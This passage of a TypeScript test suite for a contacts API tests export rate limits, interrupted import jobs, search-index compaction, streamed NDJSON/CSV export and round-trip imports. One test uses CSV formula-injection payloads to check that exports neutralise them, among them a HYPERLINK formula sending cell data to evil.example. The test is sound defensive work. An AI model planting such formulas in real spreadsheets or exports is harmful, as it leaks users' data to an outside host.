  // outgrows the socket buffers and waits for a reader that is not reading.
  const created = await importText(
    s,
    token,
    lines(Array.from({ length: 6000 }, (_, i) => ({ email: `x${i}@example.com`, attributes: { bio: 'x'.repeat(1500) } }))),
    NDJSON,
  );
  assert.equal(created.body.created, 6000, created.text);
  const url = new URL('/contacts/export', s.url);
  const held = httpRequest(url, { headers: { authorization: `Bearer ${token}` } });
  const res = await new Promise<IncomingMessage>((resolve, reject) => held.on('response', resolve).on('error', reject).end());
  assert.equal(res.statusCode, 200);
  res.pause();
  const refused = await s.request('GET', '/contacts/export?format=csv', { token });
  assertProblem(refused, 429, 'too_many_exports');
  assert.equal(refused.headers.get('retry-after'), '10');
  // The other reads go on; once the held export's connection is gone, the next export runs.
  assert.equal((await s.request('GET', '/contacts?limit=1', { token })).status, 200);
  res.destroy();
  held.destroy();
  let next = await s.request('GET', '/contacts/export?tag=none', { token });
  for (let i = 0; i < 50 && next.status === 429; i++) {
    await new Promise((r) => setTimeout(r, 20));
    next = await s.request('GET', '/contacts/export?tag=none', { token });
  }
  assert.equal(next.status, 200, next.text);
});

test('a job whose process stopped (a restart) is reported FAILED interrupted, with what it committed', async (t) => {
  const { s, token } = await buildAsOwner(t);
  const old = new Date(Date.now() - 5 * 60_000).toISOString();
  const [id, fresh] = await s.store.transaction(async (tx) => {
    const job = { workspaceId: s.workspaceId, format: 'csv', mode: 'upsert', status: 'RUNNING' } as const;
    const [stale] = await tx
      .insert(contactImports)
      .values({ ...job, created: 2000, lines: 2001, heartbeatAt: old })
      .returning({ id: contactImports.id });
    const [beating] = await tx.insert(contactImports).values(job).returning({ id: contactImports.id });
    return [stale!.id, beating!.id];
  });
  const job = (await s.request('GET', `/contacts/imports/${id}`, { token })).body;
  assert.deepEqual([job.status, job.failure?.code, job.created, job.lines], ['FAILED', 'interrupted', 2000, 2001]);
  assert.ok(job.finishedAt);
  assert.equal((await s.request('GET', `/contacts/imports/${fresh}`, { token })).body.status, 'RUNNING', 'a job still beating is left alone');
});

/** `n` contacts, one a line: search12000@example.com ... with the given last name plus its number. */
const people = (n: number, lastName: string) => lines(Array.from({ length: n }, (_, i) => ({ email: `search${i}@example.com`, lastName: `${lastName}${i}` })));

test('an import that renames many contacts leaves no tombstones in the search index (SQLite): searches find the new names only', async (t) => {
  const { s, token } = await buildAsOwner(t);
  const first = await importText(s, token, people(12_000, 'Hopper'), NDJSON);
  assert.deepEqual([first.status, first.body.status, first.body.created], [200, 'COMPLETED', 12_000], first.text);
  const again = await importText(s, token, people(12_000, 'Lovelace'), NDJSON);
  assert.deepEqual([again.status, again.body.status, again.body.updated], [200, 'COMPLETED', 12_000], again.text);
  const emails = async (q: string) => (await s.request('GET', `/contacts?q=${q}&limit=200`, { token })).body.data.map((c: { email: string }) => c.email).sort();
  assert.deepEqual(await emails('Lovelace11999'), ['search11999@example.com']);
  assert.deepEqual(await emails('Hopper11999'), []);
  assert.equal((await emails('Lovelace1199')).length, 11);
  if (s.store.dialect === 'sqlite') {
    // FTS5 rewrites no segment on its own for its tombstones (migration 0017): the import
    // compacted the index before it said COMPLETED, and the index is consistent.
    assert.deepEqual(s.db.$client.prepare("SELECT v FROM contacts_fts_config WHERE k = 'deletemerge'").get(), { v: 100 });
    assert.deepEqual(await searchIndexState(sqliteStoreOf(s)), { tombstones: 0, contacts: 12_000 });
    await sqliteStoreOf(s).exclusive((w) => w.$client.exec("INSERT INTO contacts_fts (contacts_fts, rank) VALUES ('integrity-check', 1)"));
  }
});

test('a server compacts a search index that changed contacts left full of tombstones (SQLite), and leaves a tidy one alone', async (t) => {
  const { s, token } = await buildAsOwner(t);
  if (s.store.dialect !== 'sqlite') return;
  const store = sqliteStoreOf(s);
  assert.equal((await importText(s, token, people(12_000, 'Hopper'), NDJSON)).body.created, 12_000);
  assert.deepEqual(await compactSearchIndex(store), { steps: 0 });
  // As the API and the engine's update_contact steps rename contacts one by one.
  await store.exclusive((w) => w.$client.exec("UPDATE contacts SET last_name = 'Lovelace' || substr(email, 7, instr(email, '@') - 7)"));
  const left = await searchIndexState(store);
  assert.ok(needsCompaction(left) && left.tombstones >= 1_200, `tombstones ${left.tombstones}`);
  // Another node on the same database: its maintenance at start compacts the index.
  await joinNode(s);
  const started = Date.now();
  while ((await searchIndexState(store)).tombstones > 0) {
    assert.ok(Date.now() - started < 30_000, 'the search index was not compacted');
    await new Promise((r) => setTimeout(r, 50));
  }
  const found = await s.request('GET', '/contacts?q=Lovelace11999', { token });
  assert.deepEqual(
    found.body.data.map((c: { email: string }) => c.email),
    ['search11999@example.com'],
  );
  assert.deepEqual((await s.request('GET', '/contacts?q=Hopper11999', { token })).body.data, []);
  await store.exclusive((w) => w.$client.exec("INSERT INTO contacts_fts (contacts_fts, rank) VALUES ('integrity-check', 1)"));
});

test('export: NDJSON and CSV with the list filters, streamed, and both import back as they were', async (t) => {
  const s = await build(t);
  const token = await s.login(s.owner.email, s.owner.password);
  const rows = [
    {
      email: 'a@example.com',
      phone: '+16135550101',
      firstName: 'Ann',
      lastName: 'Smith, Jr.',
      tags: ['vip', 'Beta'],
      attributes: { plan: 'pro', seats: 3, nested: { x: [1, 2] } },
    },
    { email: 'b@example.com', firstName: 'Bob "B"', lastName: 'Line\nBreak', tags: [], attributes: {} },
    { phone: '+16135550103', firstName: ' ', tags: ['vip'], attributes: { note: 'comma, quote " and ;' } },
  ];
  const made = await importText(s, token, lines(rows), NDJSON);
  assert.equal(made.body.created, 3, made.text);

  const nd = await s.request('GET', '/contacts/export?format=ndjson', { token });
  assert.equal(nd.status, 200);
  assert.match(nd.headers.get('content-type') ?? '', /^application\/x-ndjson/);
  assert.match(nd.headers.get('content-disposition') ?? '', /attachment; filename="contacts.ndjson"/);
  const exported = nd.text
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l));
  assert.deepEqual(exported, await contactsOf(s, token));
  const vip = await s.request('GET', '/contacts/export?tag=vip', { token });
  assert.equal(vip.text.trim().split('\n').length, 2);

  // Gzip for a client that takes it (read raw here: fetch would decompress it unseen).
  const raw = (acceptEncoding?: string) =>
    new Promise<{ headers: IncomingMessage['headers']; body: Buffer }>((resolve, reject) => {
      const headers: Record<string, string> = {
        authorization: `Bearer ${token}`,
        ...(acceptEncoding !== undefined ? { 'accept-encoding': acceptEncoding } : {}),
      };
      httpRequest(new URL('/contacts/export?format=ndjson', s.url), { headers }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c)).on('end', () => resolve({ headers: res.headers, body: Buffer.concat(chunks) }));
      })
        .on('error', reject)
        .end();
    });
  for (const accepted of ['gzip', 'gzip, deflate, br', 'br;q=1, gzip;q=0.5', '*', 'X-GZIP', 'gzip;q=0.8, identity;q=0.5', 'identity;q=0.5, *']) {
    const got = await raw(accepted);
    assert.equal(got.headers['content-encoding'], 'gzip', accepted);
    assert.match(String(got.headers.vary), /accept-encoding/i);
    assert.equal(gunzipSync(got.body).toString('utf8'), nd.text, accepted);
  }
  for (const refused of [undefined, '', 'identity', 'br, deflate', 'gzip;q=0', '*, gzip;q=0', 'gzip;q=nope', 'gzip;q=0.5, identity;q=1', 'identity, *;q=0.5']) {
    const got = await raw(refused);
    assert.equal(got.headers['content-encoding'], undefined, String(refused));
    assert.equal(got.body.toString('utf8'), nd.text, String(refused));
  }
  const csv = await s.request('GET', '/contacts/export?format=csv&q=smith', { token });
  assert.match(csv.headers.get('content-type') ?? '', /^text\/csv/);
  assert.equal(csv.text.split('\r\n')[0], 'id,email,phone,firstName,lastName,tags,attributes,createdAt,updatedAt');
  assertProblem(await s.request('GET', '/contacts/export?format=xml', { token }), 400);
  assertProblem(await s.request('GET', '/contacts/export?format=csv&q=smi%00th', { token }), 400, 'invalid_query');
  const viewer = await s.userWithRole('VIEWER');
  assert.equal((await s.request('GET', '/contacts/export?format=csv', { token: viewer.token })).status, 200);

  const shape = (c: any) => ({ email: c.email, phone: c.phone, firstName: c.firstName, lastName: c.lastName, tags: c.tags, attributes: c.attributes });
  const original = (await contactsOf(s, token)).map(shape);
  for (const format of ['ndjson', 'csv'] as const) {
    const dump = await s.request('GET', `/contacts/export?format=${format}`, { token });
    const target = await s.otherWorkspace();
    const back = await importText(s, target.token, dump.text, format === 'csv' ? CSV : NDJSON);
    assert.equal(back.status, 200, back.text);
    assert.deepEqual([back.body.created, back.body.errorCount], [3, 0], `${format}: ${back.text}`);
    const copy = (await contactsOf(s, target.token)).map(shape);
    const byKey = (list: any[]) => [...list].sort((x, y) => String(x.email ?? x.phone).localeCompare(String(y.email ?? y.phone)));
    if (format === 'ndjson') assert.deepEqual(byKey(copy), byKey(original));
    else {
      // CSV keeps attribute values that are JSON as JSON; everything else is the same too.
      assert.deepEqual(byKey(copy), byKey(original));
    }
    // Importing the same export again changes nothing.
    const twice = await importText(s, target.token, dump.text, format === 'csv' ? CSV : NDJSON);
    assert.deepEqual([twice.body.created, twice.body.updated, twice.body.skipped], [0, 0, 3]);
  }
});

/** The cells of a CSV text's rows (RFC 4180 quoting), for reading an export as a spreadsheet would. */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') quoted = !quoted;
    else if (quoted) cell += ch;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

test('CSV export: a cell a spreadsheet would run as a formula is written as text, and imports back as it was', async (t) => {
  const { s, token } = await buildAsOwner(t);
  // Names and emails can come from a webhook's sender (create-on-miss, update_contact).
  const hostile = [
    { email: '=cmd@example.com', firstName: '=HYPERLINK("http://evil.example/?"&A1,"Open")', lastName: '@SUM(1+1)', tags: ['=tag', 'vip'] },
    { email: 'minus@example.com', phone: '+16135550101', firstName: '-2+3', lastName: "'=already quoted" },
    { email: 'apostrophe@example.com', firstName: "'t Hooft", lastName: '+Plus', tags: ['-x'] },
    // A spreadsheet that splits columns on ";" (many European locales) would start a cell at =.
    { email: 'semi@example.com', firstName: 'x;=1+2' },
  ];
  for (const body of hostile) {
    const res = await s.request('POST', '/contacts', { token, body });
    assert.equal(res.status, 201, res.text);
  }
  const dump = await s.request('GET', '/contacts/export?format=csv', { token });
  assert.equal(dump.status, 200, dump.text);
  const [header, ...rows] = csvCells(dump.text);
  assert.equal(header!.join(','), 'id,email,phone,firstName,lastName,tags,attributes,createdAt,updatedAt');
  assert.equal(rows.length, 4);
  assert.ok(dump.text.includes(',"x;=1+2",'), 'a cell with ; is quoted, so that no locale splits it');
  for (const row of rows)
    for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell) || /^[+-]\d+$/.test(cell), `the cell ${JSON.stringify(cell)} would run as a formula`);
  const cells = rows.flat();
  for (const expected of [
    "'=cmd@example.com",
    `'=HYPERLINK("http://evil.example/?"&A1,"Open")`,
    "'@SUM(1+1)",
    "'=tag;vip",
    "'-2+3",
    "''=already quoted",
    "'t Hooft",
    "'+Plus",
    "'-x",
    '+16135550101',
  ])
    assert.ok(cells.includes(expected), `${expected} in ${JSON.stringify(cells)}`);

  // Into another workspace: every value as it was stored, the apostrophes of the export gone.
  const target = await s.otherWorkspace();
  const back = await importText(s, target.token, dump.text, CSV);
  assert.equal(back.status, 200, back.text);
  assert.deepEqual([back.body.created, back.body.errorCount], [4, 0], back.text);
  const shape = (c: any) => ({ email: c.email, phone: c.phone, firstName: c.firstName, lastName: c.lastName, tags: [...c.tags].sort() });
  const byEmail = (list: any[]) => list.map(shape).sort((a, b) => a.email.localeCompare(b.email));
  assert.deepEqual(byEmail(await contactsOf(s, target.token)), byEmail(await contactsOf(s, token)));

  // A spreadsheet's user keeps a phone's + with a leading apostrophe: the number is imported.
  const typed = await importText(s, target.token, "email,phone,firstName\r\nsheet@example.com,'+16135550188,'=1+1\r\n", CSV);
  assert.equal(typed.status, 200, typed.text);
  assert.deepEqual([typed.body.created, typed.body.errorCount], [1, 0], typed.text);
  const sheet = (await s.request('GET', '/contacts?email=sheet@example.com', { token: target.token })).body.data[0];
  assert.deepEqual([sheet.phone, sheet.firstName], ['+16135550188', '=1+1']);
});
